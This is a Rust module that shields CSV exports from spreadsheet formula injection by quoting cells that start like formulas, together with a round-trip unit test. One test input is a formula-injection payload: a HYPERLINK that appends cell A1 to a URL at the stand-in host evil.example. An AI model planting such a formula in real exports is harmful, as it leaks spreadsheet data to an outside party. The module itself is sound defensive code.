//! Text cells of a CSV file a spreadsheet will open: a cell that begins with `=`, `+`, `-`, `@`, a tab or a
//! carriage return is read by Excel, LibreOffice and Google Sheets as a formula (OWASP, "CSV Injection"),
//! and record text reaches the export from outside the organisation too (a dealer's signed webhook). The
//! export writes such a cell behind a `'` (a spreadsheet shows the text and runs nothing) and the import
//! takes it off again, so an exported history reads back exactly.

use std::borrow::Cow;

/// Whether `cell` — after any `'` it begins with — begins as a formula does.
fn looks_like_a_formula(cell: &str) -> bool {
    cell.trim_start_matches('\'')
        .starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// `text` as a CSV cell: behind a `'` when it would begin a formula (or is such a cell already guarded:
/// `'=x` is written `''=x`, so [`unguarded`] gives `'=x` back).
pub fn guarded(text: &str) -> Cow<'_, str> {
    if looks_like_a_formula(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// A CSV cell as its text: without the `'` [`guarded`] put before a formula-like cell.
pub fn unguarded(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if looks_like_a_formula(cell) => rest,
        _ => cell,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_like_cells_are_guarded_and_read_back_as_written() {
        let cases = [
            ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Invoice\")", true),
            ("+1-555-0100", true),
            ("-5 degrees", true),
            ("@SUM(1+1)", true),
            ("\tcmd", true),
            ("\rcmd", true),
            ("'=already quoted by its writer", true),
            ("''-", true),
            ("Oil change", false),
            ("it's = fine", false),
            ("'quoted", false),
            ("", false),
            ("{\"tasks\":[\"oil_change\"]}", false),
        ];
        for (text, guard) in cases {
            let cell = guarded(text);
            assert_eq!(
                cell.starts_with('\'') && cell.len() == text.len() + 1,
                guard,
                "{text:?}"
            );
            assert_eq!(unguarded(&cell), text, "round trip of {text:?}");
        }
        // What a spreadsheet shows is never a formula.
        for (text, _) in cases {
            assert!(
                !guarded(text).starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{text:?}"
            );
        }
    }
}
